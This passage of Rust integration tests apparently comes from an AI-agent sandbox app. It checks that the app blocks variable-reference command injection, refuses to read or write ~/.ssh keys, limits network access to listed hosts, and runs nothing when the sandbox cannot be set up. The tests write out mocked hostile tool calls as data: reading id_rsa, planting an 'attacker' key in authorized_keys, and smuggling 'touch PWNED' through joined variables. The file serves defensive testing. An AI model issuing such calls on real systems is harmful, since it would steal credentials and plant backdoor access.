        std::fs::create_dir_all(d).unwrap();
    }
    let app = Tollgate::open_for_home(
        &data,
        Keychain::new("app.tollgate.test.rerun"),
        Arc::new(NullSink),
        Some(&root.join("home")),
    )
    .await
    .unwrap();
    let mock = with_mock(&app).await;
    let chat = app.store.create_chat(NewChat::default()).await.unwrap().id;
    let exec = app.executor(chat).await.unwrap();
    exec.set_workspace(Some(first.clone())).await.unwrap();

    // The model writes `$VAR_REF{` and a payload into two variables and puts them side by side.
    let write = |name: &str, value: &str| json!({ "name": name, "value": value }).to_string();
    let (x, y) = (write("x", "$VAR_REF{"), write("y", "touch PWNED"));
    let joined = json!({ "command": "echo $VAR_REF{{x}}{y}} > shown.txt" }).to_string();
    mock.push(openai::calls(
        "",
        &[
            ("w1", "WriteVar", x.as_str()),
            ("w2", "WriteVar", y.as_str()),
        ],
    ));
    mock.push(openai::calls("", &[("c1", "run_command", joined.as_str())]));
    mock.push(openai::text("Done."));
    let (cards, _) = turn_allowing_all(&app, chat, "go").await;
    assert!(cards.is_empty(), "refused before any card: {cards:?}");
    let results = tool_results(&mock);
    let refused = results.last().unwrap();
    assert!(
        refused.contains("would form a new reference ($VAR_REF{{y}})"),
        "{refused}"
    );
    assert!(!first.join("shown.txt").exists() && !first.join("PWNED").exists());

    // The user edits a call to hold the literal text `$VAR_REF{{y}}` (and write outside, which
    // the sandbox blocks): it runs as written, not expanded.
    let outside = root.join("outside.txt");
    let literal = format!(
        "echo '$VAR_REF{{{{y}}}}' > shown.txt; echo '$VAR_REF{{{{y}}}}' > {}",
        outside.display()
    );
    script(&mock, &["echo harmless".to_string()]);
    let edited = json!({ "command": literal });
    let (cards, _) = turn_deciding(&app, chat, "again", |_| {
        Decision::Execution(ExecutionDecision::EditAndAllow {
            arguments: edited.clone(),
        })
    })
    .await;
    assert_eq!(cards.len(), 1);
    assert_eq!(
        std::fs::read_to_string(first.join("shown.txt")).unwrap(),
        "$VAR_REF{{y}}\n"
    );
    assert!(!first.join("PWNED").exists());
    assert!(!outside.exists());
    let calls = app.store.chat_calls(chat).await.unwrap();
    let blocked = calls.last().unwrap();
    let report = blocked.sandbox.as_ref().unwrap();
    assert!(!report.blocked.is_empty(), "{report:?}");
    assert_eq!(report.workspace.as_deref(), Some(first.to_str().unwrap()));
    assert!(
        report.changed.contains(&"shown.txt".to_string()),
        "{report:?}"
    );
    assert_eq!(
        blocked.resolved_args.as_deref(),
        Some(edited.to_string().as_str())
    );

    // The chat now points elsewhere; the rerun still runs in the first workspace, exactly.
    exec.set_workspace(Some(second.clone())).await.unwrap();
    mock.push(openai::text("Ran it."));
    let (on_event, mut rx) = collector();
    app.rerun_unsandboxed(
        chat,
        blocked.seq,
        "Run it again without the sandbox.".into(),
        on_event,
    )
    .await
    .unwrap();
    let (_, outcome) = super::service::until_finished(&mut rx).await;
    assert!(
        matches!(outcome, TurnOutcome::Completed { .. }),
        "{outcome:?}"
    );
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "$VAR_REF{{y}}\n"
    );
    assert!(
        !second.join("shown.txt").exists(),
        "ran where the chat points now"
    );
    assert!(!first.join("PWNED").exists() && !second.join("PWNED").exists());
    let rerun = app.store.chat_calls(chat).await.unwrap().pop().unwrap();
    assert_eq!(rerun.resolved_args, blocked.resolved_args);
    assert_eq!(rerun.sandbox.as_ref().unwrap().mode, SandboxMode::Off);
}

/// The file tools refuse the secret paths even inside the workspace (issue 33): with the home
/// folder as the workspace and every call approved, `.ssh/id_rsa` is neither read, searched,
/// listed, found, written nor shown on a card — also through a symlink in the workspace.
#[tokio::test]
async fn the_file_tools_refuse_secret_paths_inside_the_workspace() {
    let dir = test_root();
    let root = dir.path().canonicalize().unwrap();
    let (data, home) = (root.join("data"), root.join("home"));
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE KEY").unwrap();
    std::fs::write(home.join("notes.txt"), "PRIVATE notes of mine").unwrap();
    std::os::unix::fs::symlink(home.join(".ssh"), home.join("keys")).unwrap();
    let app = Tollgate::open_for_home(
        &data,
        Keychain::new("app.tollgate.test.hidden"),
        Arc::new(NullSink),
        Some(&home),
    )
    .await
    .unwrap();
    let mock = with_mock(&app).await;
    let chat = app.store.create_chat(NewChat::default()).await.unwrap().id;
    app.executor(chat)
        .await
        .unwrap()
        .set_workspace(Some(home.clone()))
        .await
        .unwrap();
    let calls = [
        ("r1", "read_file", json!({"path": ".ssh/id_rsa"})),
        ("r2", "read_file", json!({"path": "keys/id_rsa"})),
        ("l1", "list_dir", json!({"path": ".ssh"})),
        ("g1", "grep", json!({"pattern": "PRIVATE"})),
        ("g2", "glob", json!({"pattern": "**/*"})),
        (
            "w1",
            "edit_file",
            json!({"path": ".ssh/id_rsa", "old_text": "PRIVATE", "new_text": "x"}),
        ),
        (
            "w2",
            "write_file",
            json!({"path": ".ssh/authorized_keys", "content": "ssh-ed25519 AAAA attacker"}),
        ),
    ];
    let args: Vec<String> = calls.iter().map(|(_, _, a)| a.to_string()).collect();
    let refs: Vec<(&str, &str, &str)> = calls
        .iter()
        .zip(&args)
        .map(|((id, tool, _), a)| (*id, *tool, a.as_str()))
        .collect();
    mock.push(openai::calls("", &refs));
    mock.push(openai::text("Done."));
    let (on_event, mut rx) = collector();
    app.send(chat, TurnInput::Message("look around".into()), on_event)
        .await
        .unwrap();
    loop {
        let event = tokio::time::timeout(Duration::from_secs(30), rx.recv())
            .await
            .unwrap()
            .unwrap();
        match event {
            ChatEvent::TurnFinished { .. } => break,
            ChatEvent::Tool { event } => {
                if let ToolEvent::ApprovalRequested { approval } = *event {
                    if let ApprovalRequest::Execution { preview, .. } = &approval.request {
                        assert!(preview.is_none(), "a card previewed a secret: {preview:?}");
                    }
                    app.decide(
                        chat,
                        &approval.id,
                        Decision::Execution(ExecutionDecision::AllowOnce),
                    )
                    .await
                    .unwrap();
                }
            }
            _ => {}
        }
    }
    let results = tool_results(&mock);
    assert_eq!(results.len(), calls.len(), "{results:#?}");
    for (i, result) in results.iter().enumerate() {
        assert!(!result.contains("PRIVATE KEY"), "{}: {result}", calls[i].1);
    }
    for i in [0, 1, 2, 5, 6] {
        assert!(
            results[i].contains("is in a protected folder"),
            "{}: {}",
            calls[i].1,
            results[i]
        );
    }
    assert!(
        results[3].contains("notes.txt"),
        "the rest is searched: {}",
        results[3]
    );
    assert!(!results[3].contains(".ssh"), "{}", results[3]);
    assert!(!results[4].contains("id_rsa"), "{}", results[4]);
    assert!(!home.join(".ssh/authorized_keys").exists());
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap(),
        "PRIVATE KEY"
    );
}

/// A tiny HTTP server on `addr` answering every request with `body` (in a thread of its own).
fn http_server(addr: &str, body: &'static str) -> u16 {
    let listener = std::net::TcpListener::bind((addr, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let mut conn = conn;
            let mut buf = [0u8; 4096];
            let _ = std::io::Read::read(&mut conn, &mut buf);
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// "Only these hosts" (issue 33): with the network off and a host listed, a command reaches
/// that host through Tollgate's proxy and no other — not an unlisted one through the proxy
/// (refused, and named), not the listed one around the proxy, not by UDP.
#[test]
fn only_the_listed_hosts_are_reached_through_the_proxy() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let _guard = runtime.enter();
    // Two servers on this machine's loopback (127.0.0.2 and .3: not in NO_PROXY).
    let listed = http_server("127.0.0.2", "from the listed host");
    let unlisted = http_server("127.0.0.3", "from an unlisted host");
    let Home { ws, tmp, .. } = &home();
    let hosts = vec![format!("127.0.0.2:{listed}")];
    let spec = SandboxSpec {
        hosts: hosts.clone(),
        ..spec(ws, tmp, Vec::new(), true)
    };
    assert!(spec.proxied());
    let proxy = tollgate_engine::tools::sandbox::proxy::HostProxy::start(
        &tmp.join(tollgate_engine::tools::sandbox::proxy::SOCKET_NAME),
        hosts,
    )
    .unwrap();
    let ran = run_in(
        Some(&spec),
        ws,
        &format!("curl -sS http://127.0.0.2:{listed}/"),
        &[],
    );
    assert_eq!(
        (ran.code, ran.stdout.as_str()),
        (0, "from the listed host"),
        "{ran:?}"
    );
    let ran = run_in(
        Some(&spec),
        ws,
        &format!("curl -sS http://127.0.0.3:{unlisted}/"),
        &[],
    );
    assert!(!ran.stdout.contains("unlisted host"), "{ran:?}");
    assert!(
        ran.stdout
            .contains("is not among this chat's allowed hosts"),
        "{ran:?}"
    );
    assert_eq!(proxy.refused(), [format!("127.0.0.3:{unlisted}")]);
    // Around the proxy: the sandbox's own loopback has nothing; a TLS tunnel to the unlisted
    // host is refused the same way.
    let ran = run_in(
        Some(&spec),
        ws,
        &format!("curl -sS --noproxy '*' http://127.0.0.2:{listed}/"),
        &[],
    );
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(!ran.stdout.contains("listed host"), "{ran:?}");
    let ran = run_in(
        Some(&spec),
        ws,
        &format!("curl -sS -p http://127.0.0.3:{unlisted}/"),
        &[],
    );
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(ran.stderr.contains("403"), "{ran:?}");
    // Without the sandbox the unlisted host answers (the test tests something).
    let off = run_in(
        None,
        ws,
        &format!("curl -sS http://127.0.0.3:{unlisted}/"),
        &[],
    );
    assert_eq!(off.stdout, "from an unlisted host", "{off:?}");
}

/// Real work with "only these hosts": `npm install` of a small package from the npm registry,
/// through the whole app (the card lists the host), with nothing else reachable.
#[tokio::test]
async fn npm_install_works_with_only_the_registry_listed() {
    tollgate_engine::tools::supervisor::configure(env!("CARGO_BIN_EXE_tollgate-supervise").into());
    let dir = test_root();
    let root = dir.path().canonicalize().unwrap();
    let (data, ws) = (root.join("data"), root.join("ws"));
    for d in [&data, &ws] {
        std::fs::create_dir_all(d).unwrap();
    }
    let app = Tollgate::open_for_home(
        &data,
        Keychain::new("app.tollgate.test.hosts"),
        Arc::new(NullSink),
        Some(&root.join("home")),
    )
    .await
    .unwrap();
    let mock = with_mock(&app).await;
    let chat = app.store.create_chat(NewChat::default()).await.unwrap().id;
    app.executor(chat)
        .await
        .unwrap()
        .set_workspace(Some(ws.clone()))
        .await
        .unwrap();
    let registry = ChatSandbox {
        hosts: vec!["registry.npmjs.org".into()],
        ..ChatSandbox::default()
    };
    app.set_chat_sandbox(chat, registry, false).await.unwrap();
    script(
        &mock,
        &[
            "npm install --no-audit --no-fund --no-update-notifier is-number@7.0.0 && node -e \"console.log(require('is-number')(5))\"".to_string(),
            "curl -sS https://example.com/ -o /dev/null".to_string(),
        ],
    );
    let (cards, _) = turn_allowing_all(&app, chat, "install it").await;
    let card = cards[0].as_ref().unwrap();
    assert_eq!(card.hosts, ["registry.npmjs.org"]);
    assert!(!card.network);
    let results = tool_results(&mock);
    assert!(results[0].starts_with("Exit code 0."), "{}", results[0]);
    assert!(results[0].contains("true"), "{}", results[0]);
    assert!(ws.join("node_modules/is-number/package.json").is_file());
    assert!(
        results[1].contains("Blocked by the sandbox: connecting to example.com:443 (not among this chat's allowed hosts: registry.npmjs.org)"),
        "{}",
        results[1]
    );
}

/// A sandbox that cannot be set up runs nothing (SECURITY.md): bubblewrap refuses a workspace
/// that is gone, the command never starts, and the supervisor's own refusal of unreadable
/// settings says why and exits 125.
#[test]
fn a_sandbox_that_cannot_be_set_up_runs_nothing() {
    let Home { root, ws, tmp, .. } = &home();
    let gone = SandboxSpec {
        workspace: root.join("gone"),
        ..spec(ws, tmp, Vec::new(), true)
    };
    let ran = run_in(Some(&gone), ws, "touch ran-anyway", &[]);
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(ran.stderr.starts_with("bwrap: "), "{ran:?}");
    assert!(!ws.join("ran-anyway").exists());
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tollgate-supervise"));
    let out = cmd
        .args([SUPERVISOR_ARG, "touch ran-anyway"])
        .current_dir(ws)
        .env(SANDBOX_ENV, "{not json")
        .stdin(Stdio::piped())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr)
        .starts_with("tollgate-sandbox: the sandbox settings could not be read"));
    assert!(!ws.join("ran-anyway").exists());
}
